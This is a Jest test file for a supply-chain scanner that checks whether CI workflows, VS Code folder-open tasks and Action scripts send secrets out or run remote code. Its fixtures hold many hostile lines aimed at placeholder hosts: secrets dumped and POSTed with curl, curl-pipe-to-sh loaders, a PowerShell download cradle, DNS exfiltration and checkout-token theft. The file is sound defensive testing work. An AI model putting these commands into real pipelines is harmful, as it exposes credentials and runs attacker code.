/**
 * CI workflow files shipped in a package: a step that sends secrets or the runner environment out
 * is data_exfiltration; ordinary workflows (tests, publishing, API calls with a token header) are
 * quiet. Fixtures are written for these tests; hosts are documentation addresses.
 */
import { analyzeCiScript, analyzeEditorTasks, analyzeWorkflow } from '../../../src/engine/workflows';
import { analyzeSource, threatsOf } from './helpers';

const pkg = JSON.stringify({ name: 'fixture', version: '1.0.0' });

describe('shipped CI workflows', () => {
  it('all secrets serialised, encoded and posted out: critical data_exfiltration', () => {
    const r = analyzeSource({
      'package.json': pkg,
      '.github/workflows/ci.yml': [
        'name: ci',
        'on: [push]',
        'jobs:',
        '  build:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/checkout@v4',
        '      - name: cache warmup',
        '        run: |',
        "          echo '${{ toJSON(secrets) }}' | base64 -w0 > /tmp/c",
        '          curl -s -X POST -d @/tmp/c https://203.0.113.9/c',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    // The step is read by the script rules: every secret written to a file that is then posted.
    expect(r.evidence.find((e) => e.rule === 'script.env-exfil')).toMatchObject({
      file: '.github/workflows/ci.yml',
      threat_type: 'data_exfiltration',
    });
  });

  it('secrets handed to a step through env and the environment dumped to a webhook', () => {
    const hits = analyzeWorkflow(
      [
        'on: pull_request_target',
        'jobs:',
        '  lint:',
        '    runs-on: ubuntu-latest',
        '    env:',
        '      NPM: ${{ secrets.NPM_TOKEN }}',
        '      AWS: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
        '    steps:',
        '      - run: printenv | gzip | curl --data-binary @- https://hooks.example/t',
      ].join('\n'),
    );
    expect(hits.map((h) => h.confidence)).toEqual([0.85]);
  });

  it('one named secret in a request body to an unknown host', () => {
    const hits = analyzeWorkflow(
      'jobs:\n  a:\n    steps:\n      - run: wget -q --post-data "t=${{ secrets.GH_PAT }}" http://198.51.100.2/x\n',
    );
    expect(hits).toHaveLength(1);
  });

  it('ordinary workflows stay quiet: tests, npm publish with a token, API calls with a token header', () => {
    const r = analyzeSource({
      'package.json': pkg,
      '.github/workflows/release.yml': [
        'on: { push: { tags: ["v*"] } }',
        'jobs:',
        '  release:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/checkout@v4',
        '      - uses: actions/setup-node@v4',
        '      - run: npm ci && npm test',
        '      - run: npm publish --provenance',
        '        env:',
        '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}',
        '      - run: |',
        '          curl -sf -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" -X POST \\',
        '            -d \'{"tag_name":"${{ github.ref_name }}"}\' "$GITHUB_API_URL/repos/${{ github.repository }}/releases"',
        '      - uses: codecov/codecov-action@v4',
        '        with: { token: "${{ secrets.CODECOV_TOKEN }}" }',
      ].join('\n'),
      '.gitlab-ci.yml': 'test:\n  script:\n    - npm ci\n    - npm test\n',
    });
    expect(threatsOf(r, 0.35)).toEqual([]);
  });

  it('malformed YAML is read without throwing', () => {
    expect(analyzeWorkflow('jobs: [\n  - : : :\n*x &y')).toEqual([]);
  });

  describe('secrets printed encoded into the job log, past its masking', () => {
    const steps = (...run: string[]) =>
      analyzeWorkflow(
        ['on: pull_request', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...run].join('\n'),
      );
    it('runner memory scraped by a downloaded script, filtered for secrets and encoded twice', () => {
      const hits = steps(
        '      - run: |',
        '          wget -qO- https://snippets.example/m.py | sudo python3 | grep -aoE \'"isSecret":true\' | sort -u | base64 -w0 | base64 -w0',
      );
      expect(hits.map((h) => [h.rule, h.threat_type])).toEqual([
        ['workflow.secrets-exfil', 'data_exfiltration'],
      ]);
    });
    it('a named secret, or one handed over in env, encoded with base64 or xxd', () => {
      expect(steps('      - run: echo "${{ secrets.NPM_TOKEN }}" | base64 | base64')).toHaveLength(1);
      const viaEnv = analyzeWorkflow(
        [
          'jobs:',
          '  a:',
          '    steps:',
          '      - env:',
          '          KEY: ${{ secrets.DEPLOY_KEY }}',
          '        run: printf "%s" "$KEY" | xxd -p',
        ].join('\n'),
      );
      expect(viaEnv).toHaveLength(1);
    });
    it('decoding a secret into a file or a tool, masking, and encoding what is not a secret stay quiet', () => {
      expect(steps('      - run: echo "${{ secrets.CERT_P12 }}" | base64 -d > cert.p12')).toEqual([]);
      expect(steps('      - run: echo "${{ secrets.GPG_KEY }}" | base64 --decode | gpg --import')).toEqual(
        [],
      );
      expect(steps('      - run: tar cz dist | base64 -w0 > dist.b64')).toEqual([]);
      expect(steps('      - run: echo -n "$GITHUB_SHA" | base64')).toEqual([]);
      expect(
        steps(
          '      - run: echo "::add-mask::$(echo "${{ secrets.API_KEY }}" | base64)"',
          '      - run: npm test',
        ),
      ).toEqual([]);
    });
  });

  describe('other CI services and steps that run code', () => {
    it('GitLab and CircleCI put project secrets in the environment: an env dump sent out is a secret sent', () => {
      const gitlab = analyzeWorkflow(
        [
          'test:',
          '  script:',
          '    - env | base64 -w0 | curl -s --data-binary @- https://ci-stats.example/u',
        ].join('\n'),
        '.gitlab-ci.yml',
      );
      expect(gitlab.map((h) => h.confidence)).toEqual([0.85]);
      const circle = analyzeWorkflow(
        [
          'jobs:',
          '  build:',
          '    steps:',
          '      - run: printenv | gzip | base64 | curl -s -d @- https://cc.example/x',
        ].join('\n'),
        '.circleci/config.yml',
      );
      expect(circle.map((h) => h.confidence)).toEqual([0.85]);
    });
    it('actions/github-script posting process.env, gh gist create with secrets, Azure secret macros in a URL', () => {
      expect(
        analyzeWorkflow(
          [
            'jobs:',
            '  t:',
            '    steps:',
            '      - uses: actions/github-script@v7',
            '        env:',
            '          TOKEN: ${{ secrets.NPM_TOKEN }}',
            '        with:',
            '          script: |',
            "            await fetch('https://metrics.ci.example/r', { method: 'POST', body: JSON.stringify(process.env) });",
          ].join('\n'),
        ),
      ).toHaveLength(1);
      expect(
        analyzeWorkflow(
          'jobs:\n  r:\n    steps:\n      - run: gh gist create --public <(echo "${{ secrets.NPM_TOKEN }}")\n',
        ),
      ).toHaveLength(1);
      expect(
        analyzeWorkflow(
          'steps:\n  - script: curl -s "https://az.example/c?t=$(System.AccessToken)"\n',
          'azure-pipelines.yml',
        ),
      ).toHaveLength(1);
    });
    it('tokens as request credentials, env filtered locally, releases and build ids stay quiet', () => {
      expect(
        analyzeWorkflow(
          [
            'deploy:',
            '  script:',
            '    - env | grep ^NODE_',
            '    - \'curl -s -H "PRIVATE-TOKEN: $CI_JOB_TOKEN" https://code.example/api/v4/projects\'',
          ].join('\n'),
          '.gitlab-ci.yml',
        ),
      ).toEqual([]);
      expect(
        analyzeWorkflow(
          [
            'jobs:',
            '  r:',
            '    steps:',
            '      - run: gh release create v1.0.0 dist/*.tgz',
            '      - uses: actions/github-script@v7',
            '        with:',
            "          script: await github.request('POST /repos/{owner}/{repo}/issues/1/comments', { body: 'done' })",
          ].join('\n'),
        ),
      ).toEqual([]);
      expect(
        analyzeWorkflow(
          'steps:\n  - script: curl -s -H "Authorization: Bearer $(System.AccessToken)" "https://az.example/b/$(Build.BuildId)"\n',
          'azure-pipelines.yml',
        ),
      ).toEqual([]);
    });
  });
});

describe('VS Code tasks run when the folder is opened', () => {
  const tasks = (task: Record<string, unknown>) =>
    JSON.stringify({ version: '2.0.0', tasks: [{ label: 't', type: 'shell', ...task }] }, null, 2);
  const folderOpen = { runOptions: { runOn: 'folderOpen' } };

  it.each([
    ['curl piped to sh on macOS', { osx: { command: "curl -s 'https://cfg.devkit.example/m' | sh" } }],
    [
      'wget piped to sh in args',
      { command: 'bash', args: ['-c', 'wget -qO- https://cfg.devkit.example/l | bash'] },
    ],
    [
      'PowerShell cradle',
      { windows: { command: 'powershell -c "iex (iwr \'https://cfg.devkit.example/w\')"' } },
    ],
    ['env sent out', { command: 'env | base64 | curl -d @- https://cfg.devkit.example/e' }],
  ])(
    '%s is reported by the script rule that reads the command, >= 0.9, as a folder-open task',
    (_what, task) => {
      const hits = analyzeEditorTasks(tasks({ ...task, ...folderOpen }));
      expect(hits).toHaveLength(1);
      expect(hits[0]!.rule).toMatch(/^(?:shell|script)\./);
      // Not an install script: code run unasked, or data sent out.
      expect(['data_exfiltration', 'malicious_code']).toContain(hits[0]!.threat_type);
      expect(hits[0]!.message).toMatch(/runs (?:hidden )?when the folder is opened/);
      expect(hits[0]!.confidence).toBeGreaterThanOrEqual(0.9);
    },
  );

  it('a hidden task that reaches the network is reported below the known shapes', () => {
    const hits = analyzeEditorTasks(
      tasks({
        command: 'node -e "fetch(\'https://cfg.devkit.example/p\')"',
        presentation: { reveal: 'never' },
        ...folderOpen,
      }),
    );
    expect(hits[0]?.confidence).toBe(0.75);
  });

  it('the same command without runOn folderOpen, a visible watch task, and broken JSON are not', () => {
    expect(analyzeEditorTasks(tasks({ command: "curl -s 'https://cfg.devkit.example/m' | sh" }))).toEqual([]);
    expect(analyzeEditorTasks(tasks({ command: 'npm run watch', ...folderOpen }))).toEqual([]);
    expect(analyzeEditorTasks('{ "tasks": [ { "runOptions": ')).toEqual([]);
  });

  it('a package shipping such a task is critical, with the file named', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'starter', version: '1.0.0' }),
      '.vscode/tasks.json': `// workspace setup\n${tasks({ linux: { command: 'wget -qO- http://203.0.113.5/s | sh' }, ...folderOpen })}`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.find((e) => /when the folder is opened/.test(e.message))?.file).toBe(
      '.vscode/tasks.json',
    );
  });
});

describe('scripts run by a shipped GitHub Action', () => {
  it('reading the checkout token from .git/config is workflow.token-theft; unsetting it is not', () => {
    const steal =
      'C=.git/config\nH=$(git config -f $C --get http.https://github.com/.extraheader)\necho "$H" | base64';
    expect(analyzeCiScript(steal).map((h) => h.rule)).toContain('workflow.token-theft');
    const unset = 'git config --local --unset-all http.https://github.com/.extraheader # .git/config';
    expect(analyzeCiScript(unset)).toEqual([]);
  });

  it('a token in an Authorization header is a credential; the same token in the body is sent out', () => {
    const header = 'curl -H "Authorization: Bearer $GH_TOKEN" "$GITHUB_API_URL/repos/x/y/releases"';
    expect(analyzeCiScript(header)).toEqual([]);
    const body = `${header}\ncurl -s https://collect.ci-tools.example/t -d "t=$GH_TOKEN"`;
    // The step is read by the script rules: a secret variable in a request body is script.env-exfil.
    expect(analyzeCiScript(body).map((h) => h.rule)).toContain('script.env-exfil');
  });

  it('scripts next to action.yml are read as CI scripts; the same script elsewhere only by the script rules', () => {
    const script =
      'echo "${{ toJSON(secrets) }}" > s.json\ncurl -X POST --data @s.json https://c.ci-tools.example/u';
    const withAction = analyzeSource({
      'package.json': JSON.stringify({ name: 'a', version: '1.0.0' }),
      'act/action.yml': 'name: a\nruns:\n  using: docker\n  image: Dockerfile\n',
      'act/entry.sh': script,
    });
    const sent = withAction.evidence.find((e) => e.rule === 'script.env-exfil');
    expect(sent?.file).toBe('act/entry.sh');
    expect(sent?.message).toMatch(/writes every secret to s\.json and sends the file/);
    const without = analyzeSource({
      'package.json': JSON.stringify({ name: 'a', version: '1.0.0' }),
      'act/entry.sh': script,
    });
    expect(without.evidence.map((e) => e.rule)).not.toContain('workflow.secrets-exfil');
    expect(without.evidence.map((e) => e.rule)).not.toContain('script.env-exfil');
  });
});

describe('secrets reaching the network through env names, inline code and artifacts', () => {
  const wf = (steps: string) => `on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
  it.each([
    [
      'a secret passed as an env var and sent in a DNS name',
      wf(
        '      - run: dig +short "$(echo $DEPLOY_KEY | base64 | head -c 60).x.collector.example"\n        env:\n          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n',
      ),
    ],
    [
      'inline node code posting process.env with a secret in it',
      wf(
        "      - run: node -e \"fetch('https://c.collector.example',{method:'POST',body:JSON.stringify(process.env)})\"\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
      ),
    ],
    [
      'a secret written to a file that the job uploads as an artifact',
      wf(
        '      - run: echo "${{ secrets.AWS_KEY }}" > debug.txt\n      - uses: actions/upload-artifact@v4\n        with:\n          path: debug.txt\n',
      ),
    ],
  ])('%s is data_exfiltration (workflow.secrets-exfil or the script rule)', (_what, text) => {
    const hits = analyzeWorkflow(text);
    expect(hits.map((h) => h.threat_type)).toContain('data_exfiltration');
    expect(hits.some((h) => h.rule === 'workflow.secrets-exfil' || h.rule === 'script.env-exfil')).toBe(true);
  });

  it('a secret given as an expression or through env is read by the script rules, once', () => {
    const direct = wf(
      '      - run: curl -s -X POST https://hooks.collect.example/x -d "${{ secrets.NPM_TOKEN }}"\n',
    );
    const viaEnv = wf(
      '      - run: wget -q -O- "https://hooks.collect.example/x?k=$PUBLISH_KEY"\n        env:\n          PUBLISH_KEY: ${{ secrets.PUBLISH }}\n',
    );
    for (const text of [direct, viaEnv]) {
      const hits = analyzeWorkflow(text);
      expect(hits.map((h) => h.rule)).toEqual(['script.env-exfil']);
      expect(hits[0]!.message).toMatch(/shipped CI workflow sends secrets \((?:NPM_TOKEN|PUBLISH_KEY)\)/);
    }
  });

  it.each([
    [
      'a token env var used as an Authorization header',
      wf(
        '      - run: curl -H "Authorization: Bearer $GH" https://api.gh.example/x\n        env:\n          GH: ${{ secrets.GITHUB_TOKEN }}\n',
      ),
    ],
    [
      'npm publish with NODE_AUTH_TOKEN and a dist artifact',
      wf(
        '      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n      - uses: actions/upload-artifact@v4\n        with:\n          path: dist\n',
      ),
    ],
  ])('%s is not', (_what, text) => {
    expect(analyzeWorkflow(text)).toEqual([]);
  });
});

describe('secrets across steps and through composite action inputs', () => {
  it('one step writes a secret to a file, a later step uploads that file', () => {
    const wf = `on: [push]
jobs:
  r:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ secrets.NPM_TOKEN }}" > .ci-token
      - run: curl -s -T .ci-token https://uploads.build-cache.example/t
`;
    const hits = analyzeWorkflow(wf, '.github/workflows/release.yml');
    expect(hits.map((h) => h.rule)).toEqual(['script.env-exfil']);
    expect(hits[0]!.line).toBe(7);
  });
  it('a composite action sends an input named as a token; one using it as a header does not', () => {
    const action = (run: string) => `name: setup
inputs:
  token:
    required: true
runs:
  using: composite
  steps:
    - shell: bash
      run: |
${run}
`;
    const sends = analyzeWorkflow(
      action(
        '        T="${{ inputs.token }}"\n        curl -s "https://cfg.setup-actions.example/v1?k=$T" -o /dev/null',
      ),
      '.github/actions/setup/action.yml',
    );
    expect(sends.map((h) => h.rule)).toEqual(['script.env-exfil']);
    expect(sends[0]!.message).toMatch(/shipped GitHub Action sends secrets/);
    const header = analyzeWorkflow(
      action(
        '        curl -s -H "Authorization: Bearer ${{ inputs.token }}" https://api.example.com/repos/x/y/releases',
      ),
      'action.yml',
    );
    expect(header).toEqual([]);
  });
});

describe('a secret that is where a request goes is not what it sends', () => {
  it('a build notice posted to the Slack webhook URL kept as a secret, and a token URL fetched', () => {
    const wf = `on: [push]
jobs:
  n:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -s -X POST -H "Content-type: application/json" --data '{"text":"build done"}' "$SLACK_WEBHOOK_URL"
          wget -q "\${{ secrets.ARTIFACT_TOKEN_URL }}" -O out.zip
        env:
          SLACK_WEBHOOK_URL: \${{ secrets.SLACK_WEBHOOK_URL }}
`;
    expect(analyzeWorkflow(wf, '.github/workflows/notify.yml')).toEqual([]);
  });
  it('the same secret put in the body is sent', () => {
    const wf = `on: [push]
jobs:
  n:
    runs-on: ubuntu-latest
    steps:
      - run: curl -s -X POST --data "$NPM_TOKEN" https://hooks.collect.example/x
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`;
    expect(analyzeWorkflow(wf, '.github/workflows/x.yml').map((h) => h.rule)).toEqual(['script.env-exfil']);
  });
});

describe('steps whose shell is Python', () => {
  const wf = (env: string, code: string[]) =>
    [
      'on: [push]',
      'jobs:',
      '  b:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - shell: python',
      ...(env ? ['        env:', `          ${env}`] : []),
      '        run: |',
      ...code.map((l) => `          ${l}`),
    ].join('\n');
  it('a secret handed to the step and sent by urllib is a secret sent out', () => {
    const hits = analyzeWorkflow(
      wf('T: ${{ secrets.NPM_TOKEN }}', [
        'import os, urllib.request',
        'urllib.request.urlopen("https://ci-insights.example.dev/t", data=os.environ["T"].encode())',
      ]),
    );
    expect(hits.some((h) => h.threat_type === 'data_exfiltration' && h.confidence >= 0.8)).toBe(true);
  });
  it('a Python step posting a coverage figure with no secret in its environment is quiet', () => {
    expect(
      analyzeWorkflow(
        wf('', [
          'import os, urllib.request',
          'urllib.request.urlopen("https://ci-insights.example.dev/c", data=os.environ.get("COVERAGE", "0").encode())',
        ]),
      ),
    ).toEqual([]);
  });
});

describe('CI variants: here-documents, combined curl flags, env names aliasing secrets', () => {
  it("a Docker action's entrypoint feeding the environment to curl through a here-document", () => {
    const r = analyzeSource({
      'package.json': pkg,
      'action.yml': 'name: lint\nruns:\n  using: docker\n  image: Dockerfile\n',
      'entrypoint.sh':
        '#!/bin/sh\ncurl -s -X POST https://lint-telemetry.example/e --data-binary @- <<EOT\n$(env)\nEOT\n',
    });
    expect(r.risk_level).not.toBe('clean');
    expect(threatsOf(r)).toContain('data_exfiltration');
  });
  it('every secret written to a file in one step and sent with curl -sT in the next', () => {
    const hits = analyzeWorkflow(
      [
        'on: push',
        'jobs:',
        '  rel:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        "      - run: echo '${{ toJSON(secrets) }}' > s.json",
        '      - run: curl -sT s.json https://transfer-files.example/up/s.json',
      ].join('\n'),
      '.github/workflows/release.yml',
    );
    expect(hits.map((h) => h.message)).toEqual([
      expect.stringMatching(/every secret to s\.json and sends the file/),
    ]);
  });
  it("job env `ALL: ${{ toJSON(secrets) }}` read by a step's node -e code through require('https')", () => {
    const r = analyzeSource({
      'package.json': pkg,
      '.github/workflows/t.yml': [
        'on: [push]',
        'jobs:',
        '  t:',
        '    runs-on: ubuntu-latest',
        '    env:',
        '      ALL: ${{ toJSON(secrets) }}',
        '    steps:',
        `      - run: node -e "require('https').request({host:'ci-hook.example',method:'POST'}).end(process.env.ALL)"`,
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(threatsOf(r)).toContain('data_exfiltration');
  });
  it('quiet: a here-document writing a config file, and a build artifact uploaded with curl -sT', () => {
    expect(
      analyzeCiScript(
        '#!/bin/sh\ncat > config.json <<EOF\n{"retries": 3}\nEOF\ncurl -sT dist/app.tgz https://uploads.example/app.tgz\n',
      ),
    ).toEqual([]);
    expect(
      analyzeWorkflow(
        [
          'on: push',
          'jobs:',
          '  a:',
          '    runs-on: ubuntu-latest',
          '    env:',
          '      T: ${{ secrets.NPM_TOKEN }}',
          '    steps:',
          '      - run: node -e "console.log(process.env.T ? 1 : 0)"',
        ].join('\n'),
        '.github/workflows/a.yml',
      ),
    ).toEqual([]);
  });
});

describe('a secret written through the GitHub API by github-script', () => {
  const wf = (script: string) =>
    analyzeWorkflow(
      [
        'on: push',
        'jobs:',
        '  a:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/github-script@v7',
        '        env:',
        '          T: ${{ secrets.NPM_TOKEN }}',
        '        with:',
        '          github-token: ${{ secrets.GH_PAT }}',
        '          script: |',
        ...script.split('\n').map((l) => `            ${l}`),
      ].join('\n'),
      '.github/workflows/a.yml',
    );
  it('into a public gist', () => {
    expect(
      wf(
        "await github.rest.gists.create({ public: true, files: { 'ci.txt': { content: process.env.T } } });",
      ),
    ).toEqual([
      expect.objectContaining({ rule: 'workflow.secrets-exfil', threat_type: 'data_exfiltration' }),
    ]);
  });
  it('quiet: a comment with test results, the token only authenticating the call', () => {
    expect(
      wf(
        'await github.rest.issues.createComment({ owner: context.repo.owner, repo: context.repo.repo, issue_number: context.issue.number, body: "tests passed" });',
      ),
    ).toEqual([]);
  });
});
